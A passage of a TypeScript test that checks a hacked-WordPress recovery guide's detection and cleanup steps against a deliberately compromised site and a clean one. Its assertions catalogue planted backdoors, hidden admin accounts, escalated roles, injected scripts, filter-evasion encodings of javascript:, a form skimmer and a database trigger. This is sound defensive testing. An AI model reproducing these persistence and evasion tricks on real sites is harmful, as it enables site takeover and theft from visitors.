      'on the broken-into site, the code-free checks list each planted file: the dot-named must-use plugin, the link to PHP in uploads, the .phtml and the .ico holding PHP in uploads, the .user.ini, both wp-cli.yml, .maintenance, a translation .l10n.php, PHP in wp-content/upgrade, an .htaccess above the web root, the names with escape codes (PHP in uploads, an .htaccess in uploads, a wp-cli*.yml above the web root), and in plugins and themes a headerless plugin folder, a loose file named with escape codes and a theme folder',
      () =>
        `the code-free checks missed ${PLANTED.listed.filter((p) => !extra.includes(p)).join(', ') || 'nothing'} and listed ${extra.filter((p) => !PLANTED.listed.includes(p)).join(', ') || 'nothing'} besides:\n${found}`,
    );
    const library = await shell.paste(ctx.block(HTTP_LIBRARY_CHECK).value);
    expectNoRawControl(ctx, HTTP_LIBRARY_CHECK, library, "md5sum's findings");
    ctx.expect(
      sorted(failedFiles(library)) === sorted([HTTP_LIBRARY_FILE]),
      HTTP_LIBRARY_CHECK,
      `before any wp command, md5sum against the checksums WordPress.org serves names exactly the changed ${HTTP_LIBRARY_FILE}`,
      () => `the HTTP library check named ${failedFiles(library).join(', ') || 'nothing'}, not exactly ${HTTP_LIBRARY_FILE}:\n${library}`,
    );
    ctx.expect(
      sorted(unknownFiles(library)) === REQUESTS_AUTOLOAD,
      HTTP_LIBRARY_CHECK,
      `and names ${REQUESTS_AUTOLOAD}, which WP-CLI runs first and no checksum lists, as not a WordPress file`,
      () =>
        `the HTTP library check named ${unknownFiles(library).join(', ') || 'no file'} as not WordPress's, not exactly ${REQUESTS_AUTOLOAD}:\n${library}`,
    );
    const core = await shell.paste(blocks[1]);
    expectNoRawControl(ctx, CORE_CHECK, core, "core verify-checksums' warnings");
    ctx.expect(
      sorted(warnings(core)) === sorted(PLANTED.core) && /^Error: WordPress installation doesn't verify against checksums\.$/m.test(core),
      CORE_CHECK,
      'core verify-checksums --include-root warns of exactly the changed core file, the backdoor beside index.php, the wp-cli.yml and the file named with escape codes there, and fails',
      () => `core verify-checksums warned of ${warnings(core).join('; ') || 'nothing'}, not exactly ${PLANTED.core.join('; ')}:\n${core}`,
    );
    const loaded = await shell.paste(blocks[2]);
    expectNoRawControl(ctx, LOADING_CHECKS, loaded, 'plugin verify-checksums');
    const intruderInDatabase = new RegExp(`^\\d+\\s+${INTRUDER}\\s+${INTRUDER}@example\\.net\\s`, 'm');
    ctx.expect(
      intruderInDatabase.test(loaded) && (loaded.match(new RegExp(`^\\d+\\s+${INTRUDER}\\s`, 'gm')) ?? []).length === 1,
      LOADING_CHECKS,
      `the database query shows the administrator ${INTRUDER}, whom the must-use plugin hides from wp user list`,
      () => `the checks that load WordPress did not show ${INTRUDER} (in the database, not in wp user list):\n${loaded}`,
    );
    ctx.expect(
      new RegExp(`^\\d+\\s+${HELPER}\\s+${HELPER}@example\\.net\\s.*manage_options`, 'm').test(loaded),
      LOADING_CHECKS,
      `the database query shows ${HELPER}, an account with manage_options and no role`,
      () => `the checks that load WordPress did not show ${HELPER} (manage_options and no role):\n${loaded}`,
    );
    ctx.expect(
      new RegExp(`^\\d+\\s+${UPPER_ROLE_USER}\\s+${UPPER_ROLE_USER}@example\\.net\\s.*"${UPPER_ROLE}"`, 'm').test(loaded),
      LOADING_CHECKS,
      `the database query shows ${UPPER_ROLE_USER}, whose role ${UPPER_ROLE} (given manage_options) is not editor`,
      () => `the checks that load WordPress did not show ${UPPER_ROLE_USER} (role ${UPPER_ROLE}, not editor):\n${loaded}`,
    );
    ctx.expect(
      showsSignup(loaded, OPEN_SIGNUP.broken),
      LOADING_CHECKS,
      'the options query shows users_can_register 1 and default_role administrator: anyone could sign up as an administrator',
      () => `the checks that load WordPress did not show users_can_register 1 and default_role administrator (and siteurl):\n${loaded}`,
    );
    ctx.expect(
      optionRows(loaded).get('admin_email') === ADMIN_EMAIL.broken,
      LOADING_CHECKS,
      `the options query shows admin_email ${ADMIN_EMAIL.broken}, the attacker's address`,
      () => `the checks that load WordPress did not show admin_email ${ADMIN_EMAIL.broken}:\n${loaded}`,
    );
    ctx.expect(
      sorted(extensionsListed(loaded)) === sorted(EXTENSIONS_LISTED),
      LOADING_CHECKS,
      `wp plugin list and wp theme list show ${PLUGIN}, the must-use .cache and loader, and the planted theme ${PLANTED_THEME}, not the headerless ${HEADERLESS_PLUGIN}, which only the listing of plugins names`,
      () =>
        `wp plugin list and wp theme list showed ${extensionsListed(loaded).join(', ') || 'nothing'}, not ${EXTENSIONS_LISTED.join(', ')}:\n${loaded}`,
    );
    ctx.expect(
      new RegExp(`^1\\tpost\\tpublish\\tHello world!$`, 'm').test(loaded) &&
        new RegExp(`^1\\t${INJECTED_META}$`, 'm').test(loaded) &&
        new RegExp(`^\\d+\\t${INJECTED_OPTION}$`, 'm').test(loaded) &&
        new RegExp(`^\\d+\\t${INJECTED_HANDLER_OPTION}$`, 'm').test(loaded),
      LOADING_CHECKS,
      `the searches for injected code find the script in post 1, its field ${INJECTED_META}, the option ${INJECTED_OPTION} and the onerror handler in ${INJECTED_HANDLER_OPTION}`,
      () =>
        `the checks that load WordPress did not find the script injected into post 1, ${INJECTED_META}, ${INJECTED_OPTION} and ${INJECTED_HANDLER_OPTION}:\n${loaded}`,
    );
    const missedElsewhere = [
      // Review r68b M1: core's the_title() prints a title unescaped, and an account's display name shows on its posts
      [
        `the title of post ${INJECTED_ELSEWHERE.titleOf}`,
        `^${INJECTED_ELSEWHERE.titleOf}\\tpage\\tdraft\\t${escapeRegExp(INJECTED_ELSEWHERE.titleWas + INJECTED)}$`,
      ],
      [`the display name of ${APP_PASSWORD_USER}`, `^user\\t\\d+\\twp_users$`],
      [`the excerpt of post ${INJECTED_ELSEWHERE.excerptOf}`, `^${INJECTED_ELSEWHERE.excerptOf}\\tpage\\tpublish\\tSample Page$`],
      [`the description of category ${INJECTED_ELSEWHERE.termId}`, `^${INJECTED_ELSEWHERE.termId}\\tcategory$`],
      [`the name of category ${INJECTED_TERM_NAME.id}`, `^${INJECTED_TERM_NAME.id}\\tcategory$`],
      [`comment ${INJECTED_ELSEWHERE.commentId}`, `^${INJECTED_ELSEWHERE.commentId}\\t1\\t1$`],
      // Review r84b L1: core still creates wp_links, and a link's description is printed by wp_list_bookmarks()
      [`the link ${INJECTED_ELSEWHERE.linkName}`, `^link\\t\\d+\\twp_links$`],
    ].filter(([, row]) => !new RegExp(row, 'm').test(loaded));
    ctx.expect(
      missedElsewhere.length === 0,
      LOADING_CHECKS,
      `the searches also find the script in the title of post ${INJECTED_ELSEWHERE.titleOf} (a draft), the handler in ${APP_PASSWORD_USER}'s display name and in the excerpt of post ${INJECTED_ELSEWHERE.excerptOf} (the Sample Page), the script in category ${INJECTED_ELSEWHERE.termId}'s description, in comment ${INJECTED_ELSEWHERE.commentId} (approved) and in the link ${INJECTED_ELSEWHERE.linkName}'s description`,
      () => `the searches for injected code missed ${missedElsewhere.map(([where]) => where).join(', ')}:\n${loaded}`,
    );
    const missedWider = [
      [`the redirect in ${INJECTED_WIDER.refreshOption.name}`, `^\\d+\\t${INJECTED_WIDER.refreshOption.name}$`],
      [
        `atob in post ${INJECTED_WIDER.atobMeta.post}'s ${INJECTED_WIDER.atobMeta.key}`,
        `^${INJECTED_WIDER.atobMeta.post}\\t${INJECTED_WIDER.atobMeta.key}$`,
      ],
      [`document.write in ${INJECTED_WIDER.writeOption.name}`, `^\\d+\\t${INJECTED_WIDER.writeOption.name}$`],
      [
        `the JSON-escaped redirect in post ${INJECTED_WIDER.builderMeta.post}'s ${INJECTED_WIDER.builderMeta.key}`,
        `^${INJECTED_WIDER.builderMeta.post}\\t${INJECTED_WIDER.builderMeta.key}$`,
      ],
    ].filter(([, row]) => !new RegExp(row, 'm').test(loaded));
    ctx.expect(
      missedWider.length === 0,
      LOADING_CHECKS,
      `the searches also find a meta refresh in the option ${INJECTED_WIDER.refreshOption.name}, atob in post ${INJECTED_WIDER.atobMeta.post}'s field ${INJECTED_WIDER.atobMeta.key} document.write in the option ${INJECTED_WIDER.writeOption.name} and a JSON-escaped meta refresh in post ${INJECTED_WIDER.builderMeta.post}'s field ${INJECTED_WIDER.builderMeta.key}, none of which holds a script tag, handler or eval`,
      () => `the widened searches for injected code missed ${missedWider.map(([where]) => where).join(', ')}:\n${loaded}`,
    );
    const missedHidden = HIDDEN_SPAM.filter(({page}) => !new RegExp(`^\\d+\\tpage\\tpublish\\t${page}$`, 'm').test(loaded));
    ctx.expect(
      missedHidden.length === 0,
      LOADING_CHECKS,
      `the search for links hidden by CSS lists the pages ${HIDDEN_SPAM.map(({page, how}) => `"${page}" (${how})`).join(', ')}, changed in the table with no script and their dates kept`,
      () =>
        `the checks that load WordPress did not list ${missedHidden.map(({page}) => `the page "${page}"`).join(', ')} with a link hidden by CSS:\n${loaded}`,
    );
    ctx.expect(
      /^user\t1\tdescription$/m.test(loaded) && new RegExp(`^comment\\t${INJECTED_ELSEWHERE.commentId}\\t1$`, 'm').test(loaded),
      LOADING_CHECKS,
      `the search for links hidden by CSS lists user 1's bio and comment ${INJECTED_ELSEWHERE.commentId}, each with a display:none link`,
      () =>
        `the checks that load WordPress did not list user 1's bio or comment ${INJECTED_ELSEWHERE.commentId} with a link hidden by CSS:\n${loaded}`,
    );
    ctx.expect(
      !new RegExp(`^\\d+\\tpage\\tpublish\\t${SMALL_PRINT_PAGE.page}$`, 'm').test(loaded),
      LOADING_CHECKS,
      `the searches leave out the page "${SMALL_PRINT_PAGE.page}", whose small print (font-size:0.9em) hides nothing and whose "medieval (1200)" and "system (online)" are prose`,
      () =>
        `the checks that load WordPress listed the page "${SMALL_PRINT_PAGE.page}", whose font-size:0.9em hides nothing and whose words are no code:\n${loaded}`,
    );
    ctx.expect(
      new RegExp(`^option\\t\\d+\\t${HIDDEN_WIDGET.name}$`, 'm').test(loaded),
      LOADING_CHECKS,
      `the search for links hidden by CSS outside posts lists the option ${HIDDEN_WIDGET.name}, a widget's display:none link`,
      () => `the checks that load WordPress did not list the option ${HIDDEN_WIDGET.name} with a link hidden by CSS:\n${loaded}`,
    );
    const missedDomains = LINKED_SPAM.filter(
      ({domain, place}) => !new RegExp(`^${escapeRegExp(domain)}\\t\\d+\\t(?:.* )?${place}(?: .*)?$`, 'm').test(loaded),
    );
    ctx.expect(
      missedDomains.length === 0,
      LOADING_CHECKS,
      `the list of outside domains names each link the hidden-link search misses, with its place: ${LINKED_SPAM.map(({domain, how}) => `${domain} (${how})`).join(', ')}`,
      () => `the checks that load WordPress did not list the domains ${missedDomains.map(({domain}) => domain).join(', ')}:\n${loaded}`,
    );
    ctx.expect(
      !/^(?:www\.)?example\.com\t/m.test(loaded),
      LOADING_CHECKS,
      `the list leaves out the site's own domain, which the page "${LINKED_SPAM_PAGE.page}" links to with www and in capitals`,
      () => `the checks that load WordPress listed the site's own domain as an outside one:\n${loaded}`,
    );
    const missedDisguised = Object.values(INJECTED_DISGUISED)
      .filter(({name}) => !new RegExp(`^\\d+\\t${name}$`, 'm').test(loaded))
      .map(({name, missed}) => `${missed} in ${name}`);
    ctx.expect(
      missedDisguised.length === 0,
      LOADING_CHECKS,
      `the searches also find a handler stuck to a quoted attribute in the option ${INJECTED_DISGUISED.quotedHandler.name}, one after a > inside a quoted value in ${INJECTED_DISGUISED.gtInValue.name}, &#106 without its semicolon in ${INJECTED_DISGUISED.entityNoSemicolon.name}, jav&#x61;script: in ${INJECTED_DISGUISED.entityLaterLetter.name}, java&#9;script: in ${INJECTED_DISGUISED.entityTab.name}, jav(tab)ascript: in ${INJECTED_DISGUISED.rawTab.name}, twelve tabs in ${INJECTED_DISGUISED.manyTabs.name}, a form posting elsewhere in ${INJECTED_DISGUISED.formSkimmer.name} and a stylesheet from elsewhere, linked in ${INJECTED_DISGUISED.linkedStylesheet.name} and imported in ${INJECTED_DISGUISED.importedStylesheet.name}, \\u0073cript in ${INJECTED_DISGUISED.jsonEscapedLetter.name} and <form/ in ${INJECTED_DISGUISED.slashForm.name}`,
      () => `the searches for injected code missed ${missedDisguised.join(', ')}:\n${loaded}`,
    );
    ctx.expect(
      new RegExp(`^${SNIPPETS_TABLE}\\t\\d+$`, 'm').test(loaded) && new RegExp(`^\\d+\\t${PHP_OPTION.name}$`, 'm').test(loaded),
      LOADING_CHECKS,
      `the listing of tables core did not make names ${SNIPPETS_TABLE} (Code Snippets' table, holding a shell), and the searches find the PHP in the option ${PHP_OPTION.name}`,
      () => `the checks that load WordPress did not list the table ${SNIPPETS_TABLE} or find the PHP in ${PHP_OPTION.name}:\n${loaded}`,
    );
    ctx.expect(
      /^GRANT CREATE USER ON \*\.\* TO [`']wp_example[`']@[`']localhost[`']/m.test(loaded),
      LOADING_CHECKS,
      "SHOW GRANTS shows the site's database user holding CREATE USER on *.*, beyond its own database",
      () => `the checks that load WordPress did not show the site's database user's CREATE USER on *.*:\n${loaded}`,
    );
    const login = escapeRegExp(ESCAPED_LOGIN.shown);
    ctx.expect(
      new RegExp(`^\\d+\\t${login}\\twproot\\t${ESCAPED_LOGIN.email}\\t`, 'm').test(loaded) &&
        new RegExp(`^\\d+\\t${login}\\t${ESCAPED_LOGIN.email}\\t.*"administrator"`, 'm').test(loaded) &&
        new RegExp(`^Reset password for ${login}\\.$`, 'm').test(loaded),
      LOADING_CHECKS,
      `wp user list, the database query and the password loop show the administrator whose login holds escape codes as text: ${ESCAPED_LOGIN.shown}`,
      () =>
        `the checks that load WordPress did not show the administrator ${ESCAPED_LOGIN.shown} in wp user list, the database and the password loop:\n${loaded}`,
    );
    ctx.expect(
      new RegExp(`^[^\\t]+\\t${PLANTED_TRIGGER}\\twp_usermeta\\tSET @seen = 1$`, 'm').test(loaded),
      LOADING_CHECKS,
      `the query of triggers, events and routines shows the trigger ${PLANTED_TRIGGER}`,
      () => `the checks that load WordPress did not show the trigger ${PLANTED_TRIGGER}:\n${loaded}`,
    );
    ctx.expect(
      new RegExp(`^${PLANTED_ROUTINE}\\tPROCEDURE\\t`, 'm').test(loaded),
      LOADING_CHECKS,
      `the query of routines shows the procedure ${PLANTED_ROUTINE}, which another database account made`,
      () => `the checks that load WordPress did not show the procedure ${PLANTED_ROUTINE}:\n${loaded}`,
    );
    ctx.expect(
      sorted(rolesListed(loaded)) === sorted(ROLES_TAKING_OVER),
      LOADING_CHECKS,
      `the roles check names administrator and editor (core's unfiltered_html), ${WIDENED_ROLE} and ${FLAG_ROLE} (given promote_users), ${HTML_ROLE} (given unfiltered_html) and the roles named ${GLOB_ROLE}, ${UPPER_ROLE} and ${JSON.stringify(FORGED_ROLE)} (given manage_options)`,
      () => `the roles check named ${shownRoles(rolesListed(loaded)) || 'no role'}, not ${shownRoles(ROLES_TAKING_OVER)}:\n${loaded}`,
    );
    ctx.expect(
      new RegExp(`^\\d+\\s+${APP_PASSWORD_USER}\\s+a:1:\\{.*"name";s:${APP_PASSWORD_NAME.length}:"${APP_PASSWORD_NAME}"`, 'm').test(loaded),
      LOADING_CHECKS,
      `the Application Passwords query lists the one of ${APP_PASSWORD_USER}, an editor`,
      () => `the checks that load WordPress did not list the Application Password of ${APP_PASSWORD_USER} (an editor):\n${loaded}`,
    );
    ctx.expect(
      new RegExp(`^\\d+\\t\\d+\\tadmin\\t${SHOP_KEY.description}\\t${SHOP_KEY.permissions}\\tNULL$`, 'm').test(loaded),
      LOADING_CHECKS,
      `the query of WooCommerce's REST API keys lists the planted key with its user, description, permissions and last access`,
      () => `the checks that load WordPress did not list the WooCommerce API key "${SHOP_KEY.description}":\n${loaded}`,
    );
    ctx.expect(
      new RegExp(`^\\d+\\t${SHOP_WEBHOOK.name}\\tactive\\t${escapeRegExp(SHOP_WEBHOOK.url)}\\t\\d+\\tadmin$`, 'm').test(loaded),
      LOADING_CHECKS,
      `the query of WooCommerce's webhooks lists the planted webhook with its status, delivery address and user`,
      () => `the checks that load WordPress did not list the WooCommerce webhook "${SHOP_WEBHOOK.name}":\n${loaded}`,
    );
    const recent = loaded.split('\n');
    const recentAt = recent.indexOf('ID\tpost_type\tpost_status\tpost_title\tpost_modified_gmt');
    ctx.expect(
      recentAt >= 0 &&
        new RegExp(`^\\d+\\tpage\\tpublish\\t${SPAM_PAGE}\\t\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d$`).test(recent[recentAt + 1] ?? ''),
      LOADING_CHECKS,
      `the query of recent changes lists the spam page "${SPAM_PAGE}" (no script in it) first, with its time`,
      () => `the checks that load WordPress did not list the spam page "${SPAM_PAGE}" first among recent changes:\n${loaded}`,
    );
    const newestAt = recent.indexOf('ID\tpost_type\tpost_status\tpost_title\tpost_date_gmt');
    ctx.expect(
      newestAt >= 0 && new RegExp(`^\\d+\\tpage\\tpublish\\t${BACKDATED_PAGE}\\t2019-03-01 `).test(recent[newestAt + 1] ?? ''),
      LOADING_CHECKS,
      `the query of the newest posts by ID lists the spam page "${BACKDATED_PAGE}" first, which its 2019 date hides among recent changes`,
      () =>
        `the checks that load WordPress did not list the backdated spam page "${BACKDATED_PAGE}" first among the newest posts:\n${loaded}`,
    );
    const pluginFinding = (file: string, message: string) =>
      new RegExp(`^${PLUGIN}\\s+${escapeRegExp(file)}\\s+${message}$`, 'm').test(loaded);
    ctx.expect(
      pluginFinding(`${PLUGIN}.php`, 'Checksum does not match') &&
        pluginFinding(ESCAPED.shown, 'File was added') &&
        (loaded.match(/Checksum does not match|File was added|File is missing/g) ?? []).length === 2,
      LOADING_CHECKS,
      `plugin verify-checksums --all names exactly the changed ${PLUGIN}/${PLUGIN}.php and the added file named with escape codes`,
      () => `plugin verify-checksums did not name exactly ${PLUGIN}.php and ${ESCAPED.shown}:\n${loaded}`,
    );
    ctx.expect(
      /^Password: \S+$/m.test(loaded) && /^Success: Shuffled the salt keys\.$/m.test(loaded) && hash() !== hashBefore,
      LOADING_CHECKS,
      'the loop gives the listed administrator a new password, shown once, and the salts are shuffled',
      () => `no new password or salts:\n${loaded}`,
    );
    const resetKeys = admin(ws, `SELECT user_login FROM wp_users WHERE user_activation_key <> ''`, SITE.database);
    ctx.expect(
      resetKeys === '',
      LOADING_CHECKS,
      `the checks that load WordPress void every pending reset key, the one planted for ${APP_PASSWORD_USER} (an editor) too`,
      () => `after the checks that load WordPress, these accounts still hold a reset key: ${resetKeys}`,
    );
    // The evidence copy and step 4's core replacement come after the checks that load WordPress, not before them
    // as on the page: neither changes what the other finds (the copy holds the backdoor and the intruder either way,
    // and the loading checks touch no core file), and so the 30 proofs that stop in the loading block skip the
    // 5 s of CPU that the tar, the export and the download take.
    checkEvidenceFiles(ctx, ns);
    checkEvidenceDatabase(ctx, ns);
    await expectVersionGuards(ctx, ns, shell);
    const rootMode = () => ns.root(`stat -c %a ${SITE.root}`).stdout.trim();
    const modeBefore = rootMode();
    const replaced = await shell.paste(ctx.block(CORE_REPLACE).value);
    const modeAfter = rootMode();
    ctx.expect(
      modeAfter === modeBefore,
      CORE_REPLACE,
      `replacing core leaves the web root's own mode (${modeBefore})`,
      () => `replacing core changed the web root's mode from ${modeBefore} to ${modeAfter}:\n${replaced}`,
    );
    // The block deletes Requests/ before the copy, so the file planted there is gone (review r72a HIGH F5).
    const coreAfter = PLANTED.core.filter((w) => !w.startsWith("File doesn't verify") && !w.endsWith(REQUESTS_AUTOLOAD));
    const stillPlanted = ns
      .root(`cat ${SITE.root}/wp-includes/functions.php ${SITE.root}/${HTTP_LIBRARY_FILE} | grep -c '// planted in'`)
      .stdout.trim();
    ctx.expect(
      /^Success: WordPress downloaded\.$/m.test(replaced) && sorted(warnings(replaced)) === sorted(coreAfter) && stillPlanted === '0',
      CORE_REPLACE,
      `replacing core with the version the site runs restores wp-includes/functions.php and ${HTTP_LIBRARY_FILE}, deletes ${REQUESTS_AUTOLOAD}, and the check then names the files the download leaves, ${CORE_EXTRA} among them`,
      () =>
        `replacing core left ${stillPlanted} planted lines in functions.php and ${HTTP_LIBRARY_FILE}, or the check warned of ${warnings(replaced).join('; ') || 'nothing'}, not exactly ${coreAfter.join('; ')}:\n${replaced}`,
    );
    await checkDatabaseCleaning(ctx, shell);
  });

  // Then clean: the same blocks on the site as installed must report nothing.
  const clean = await freshSite(ctx, ns);
  const [foundClean, libraryClean, coreClean, loadedClean] = await inCleanShell(ctx, ns, clean, async (shell) => [
    await shell.paste(blocks[0]),
    await shell.paste(ctx.block(HTTP_LIBRARY_CHECK).value),
    await shell.paste(blocks[1]),
    await shell.paste(blocks[2]),
  ]);
  ctx.expect(
    sorted(listedPaths(foundClean)) === sorted(baseline),
    CODE_FREE_CHECKS,
    'on the clean site, the code-free checks list only what WordPress ships (wp-content/index.php, the two .htaccess, akismet and index.php in plugins, index.php in themes) and that mu-plugins does not exist',
    () => `on the clean site the code-free checks printed:\n${foundClean}`,
  );
  ctx.expect(
    /^\d+(\.\d+)+$/.test(libraryClean.trim()),
    HTTP_LIBRARY_CHECK,
    'on the clean site, the HTTP library check prints the version alone: every file of it matches',
    () => `on the clean site the HTTP library check printed:\n${libraryClean}`,
  );
  ctx.expect(
    warnings(coreClean).length === 0 && /^Success: WordPress installation verifies against checksums\.$/m.test(coreClean),
    CORE_CHECK,
    'on the clean site, core verify-checksums --include-root verifies with no warning',
    () => `on the clean site core verify-checksums printed:\n${coreClean}`,
  );
  ctx.expect(
    /^\d+\s+admin\s+admin@example\.com\s/m.test(loadedClean) &&
      !loadedClean.includes(INTRUDER) &&
      !loadedClean.includes(HELPER) &&
      !loadedClean.includes(APP_PASSWORD_USER) &&
      !loadedClean.includes(UPPER_ROLE_USER) &&
      showsSignup(loadedClean, OPEN_SIGNUP.clean) &&
      optionRows(loadedClean).get('admin_email') === ADMIN_EMAIL.clean &&
      sorted(extensionsListed(loadedClean)) === PLUGIN &&
      !/\tpost_title$|\tmeta_key$|\toption_name$|\ttaxonomy$|\tcomment_approved$|\tACTION_STATEMENT$|\tEVENT_DEFINITION$|\tROUTINE_DEFINITION$|\tTABLE_ROWS$/m.test(
        loadedClean,
      ) &&
      sorted(rolesListed(loadedClean)) === sorted(['administrator', 'editor']) &&
      /^GRANT USAGE ON \*\.\* TO [`']wp_example[`']@[`']localhost[`']/m.test(loadedClean) &&
      /^GRANT ALL PRIVILEGES ON [`']?wp_example[`']?\.\* TO [`']wp_example[`']@[`']localhost[`']$/m.test(loadedClean) &&
      !/^ERROR \d+/m.test(loadedClean) &&
      !/\bkey_id\b|\bwebhook_id\b/.test(loadedClean) &&
      /^Success: Verified 1 of 1 plugins\.$/m.test(loadedClean),
    LOADING_CHECKS,
    'on the clean site, the WordPress checks list the one administrator, grants for the database user on its own database alone, users_can_register 0, default_role subscriber and the admin email as installed, the one plugin, no injected code, only administrator as a role that can take the site, no shop key or webhook and no database error (no WooCommerce tables), and verify the plugin',
    () => `on the clean site the checks that load WordPress printed:\n${loadedClean}`,
  );
}

/**
 * Step 5's cleaning block (review r127a L3), after the core replacement as on the page, on what step 3 found: post 1's
 * script and the revision holding it, category 1's description, comment 1, user 1's bio, post 1's page-builder field,
 * one instance of a serialized widget, and the hidden link in an option by search-replace (its dry run first).
 */
async function checkDatabaseCleaning(ctx: RecipeContext, shell: CleanShell) {
  const ws = ctx.workspace;
  let block: string;
  try {
    block = substituted(ctx.block(DATABASE_CLEANING).value, CLEANING_STEPS, 'the block');
  } catch (error) {
    ctx.fail(DATABASE_CLEANING, (error as Error).message);
  }
  for (const [from, , said] of CLEANING_STEPS) if (said) ws.note(SECURITY, from.trim(), said);
  const db = (query: string) => admin(ws, query, SITE.database);
  const hiddenLink = () => db(`SELECT option_value FROM wp_options WHERE option_name = '${HIDDEN_WIDGET.name}'`);
  const hiddenLinkBefore = hiddenLink();
  // A command that reads the rest of the paste as its input hangs the shell: a failure of this block
  const cleaned = await shell.paste(block).catch((error: Error) => ctx.fail(DATABASE_CLEANING, error.message));
  ctx.expect(
    /^Success: 1 replacement to be made\.$/m.test(cleaned) && hiddenLink() === hiddenLinkBefore,
    DATABASE_CLEANING,
    `the dry run of search-replace counts the hidden link in the option ${HIDDEN_WIDGET.name} and changes nothing`,
    () => `the dry run did not count one replacement, or changed the option:\n${cleaned}`,
  );
  // Then without --dry-run, as the block's comment says
  const real = await shell.paste(commandsOf(block).at(-1)!.replace(' --dry-run', ''));
  const left = {
    post: db(`SELECT COUNT(*) FROM wp_posts WHERE ID = 1 AND post_content LIKE '%${INJECTED}%'`),
    postEndsInNewline: db("SELECT post_content LIKE CONCAT('%', CHAR(10)) FROM wp_posts WHERE ID = 1"),
    revisions: db(`SELECT COUNT(*) FROM wp_posts WHERE post_parent = 1 AND post_type = 'revision' AND post_content LIKE '%${INJECTED}%'`),
    term: db(`SELECT description FROM wp_term_taxonomy WHERE term_id = ${INJECTED_ELSEWHERE.termId}`),
    comment: db(`SELECT comment_content FROM wp_comments WHERE comment_ID = ${INJECTED_ELSEWHERE.commentId}`),
    bio: db("SELECT meta_value FROM wp_usermeta WHERE user_id = 1 AND meta_key = 'description'"),
    field: db(`SELECT meta_value FROM wp_postmeta WHERE post_id = 1 AND meta_key = '${INJECTED_META}'`),
    link: hiddenLink(),
  };
  const widgets = await shell.paste(
    `wp --path="$SITE" --skip-plugins --skip-themes eval 'echo json_encode(get_option("widget_custom_html")), "\\n";'`,
  );
  const keptWidget = {...INJECTED_WIDGETS, '2': {title: '', content: ''}};
  ctx.expect(
    left.post === '0' &&
      left.term === 'Our news' &&
      left.comment === 'Thanks for the tip.' &&
      left.bio === '' &&
      left.field === '' &&
      left.link === '' &&
      widgets.trim() === JSON.stringify(keptWidget),
    DATABASE_CLEANING,
    `the cleaning takes the script out of post 1 and deletes the revision holding it, sets category ${INJECTED_ELSEWHERE.termId}'s description, comment ${INJECTED_ELSEWHERE.commentId} and user 1's bio anew, empties post 1's ${INJECTED_META}, empties widget 2 of widget_custom_html and keeps widget 3 and the option readable, and search-replace takes the hidden link out of ${HIDDEN_WIDGET.name}`,
    () =>
      `after the cleaning block: ${JSON.stringify(left)}; widget_custom_html is ${widgets.trim()}, not ${JSON.stringify(keptWidget)}:\n${cleaned}\n${real}`,
  );
  ctx.expect(
    left.postEndsInNewline === '0',
    DATABASE_CLEANING,
    'and saves post 1 back without a newline at its end, which neither it nor the break-in put there',
    () => `post 1 ends in a newline after the cleaning block:\n${cleaned}`,
  );
  ctx.expect(
    left.revisions === '0',
    DATABASE_CLEANING,
    "the cleaning deletes post 1's revisions: none keeps the script",
    () => `post 1 still has ${left.revisions} revisions holding the script after the cleaning block:\n${cleaned}`,
  );
}

export const wordpressSecurityRecipe: Recipe = {
  name: 'wordpress-security',
  summary:
    "the hacked-site recovery guide's checks after a break-in (step 3), pasted into a clean shell, on a site broken into and then clean",
  run: checksAfterBreakIn,
  /*
   * A lane of its own: its own namespace, MariaDB (on its run's socket) and installed site, so about 8 s of set-up
   * runs twice in a full run. In the wordpress lane, the longest, its 21 s lengthened the whole stage (188 s, that lane
   * 179 s); beside it, the stage took 121.5 s with that lane at 110 s (ARCHITECTURE.md, Recipes).
   */
  lane: 'wordpress-security',
  breakingEdits: [
    {
      what: "drop the listing of the clean shell's wp (review r61 M4)",
      ref: CODE_FREE_CHECKS,
      edit: replace(/^ls -lL "\$\(command -v wp\)"\n/m, ''),
      expect: /did not show \/usr\/local\/bin\/wp as root's/,
    },
    {
      what: 'drop the searches of PHP in uploads, by name and by content (the listing by date still names the .phtml)',
      ref: CODE_FREE_CHECKS,
      edit: replace(/^find -H "\$SITE\/wp-content\/uploads".*\n(?:#.*\n)*grep -rlaiE .*\n/m, ''),
      expect: /the code-free checks missed \S*favicon\.ico/,
    },
    {
      what: 'drop the search of uploads by content',
      ref: CODE_FREE_CHECKS,
      edit: replace(/^grep -rlaiE .*\n/m, ''),
      expect: /the code-free checks missed \S*favicon\.ico/,
    },
    {
      what: 'drop the finds of .maintenance and translation PHP (the core check skips both)',
      ref: CODE_FREE_CHECKS,
      edit: replace(/^find -H "\$SITE" -maxdepth 1 -name \.maintenance\n.*\n/m, ''),
      expect: /the code-free checks missed \S*\.maintenance, \S*en_US\.l10n\.php/,
    },
    {
      what: 'list only translations among the PHP in wp-content (the find before review r48)',
      ref: CODE_FREE_CHECKS,
      edit: replace(
        /^find -H "\$SITE\/wp-content" \\\(.*$/m,
        `find -H "$SITE/wp-content" -path "$SITE/wp-content/languages/*" -iname '*.php*'`,
      ),
      expect: /the code-free checks missed \S*upgrade\/wp-tmp\.php/,
    },
    {
      what: 'drop the listing of plugins and themes (the block before review r53)',
      ref: CODE_FREE_CHECKS,
      edit: replace(/^find -H "\$SITE\/wp-content\/plugins" .*\n/m, ''),
      expect: /the code-free checks missed \S*plugins\/wp-cache-helper, \S*plugins\/x\^\[\[1A\^\[\[2K\.php, \S*themes\/flavor/,
    },
    {
      what: 'list plugins only, not themes',
      ref: CODE_FREE_CHECKS,
      edit: replace(' "$SITE/wp-content/themes" -mindepth', ' -mindepth'),
      expect: /the code-free checks missed \S*themes\/flavor and listed nothing besides/,
    },
    {
      what: 'drop .htaccess from the loop over the folders above the web root',
      ref: CODE_FREE_CHECKS,
      edit: replace(' "${dir%/}"/.htaccess', ''),
      expect: /the code-free checks missed \/var\/www\/example\.com\/\.htaccess/,
    },
    {
      what: 'drop .user.ini from the loop over the folders above the web root',
      ref: CODE_FREE_CHECKS,
      edit: replace(' "${dir%/}"/.user.ini', ''),
      expect: /the code-free checks missed \/var\/www\/example\.com\/\.user\.ini/,
    },
    {
      what: "drop wp-cli*.yml from the site's find (the loop then misses one in the web root itself)",
      ref: CODE_FREE_CHECKS,
      edit: replace(" -o -name 'wp-cli*.yml'", ''),
      expect: /the code-free checks missed \/var\/www\/example\.com\/public\/wp-cli\.yml/,
    },
    {
      what: 'drop --include-root',
      ref: CORE_CHECK,
      edit: replace('core verify-checksums --include-root', 'core verify-checksums'),
      expect: /core verify-checksums warned of .*, not exactly/,
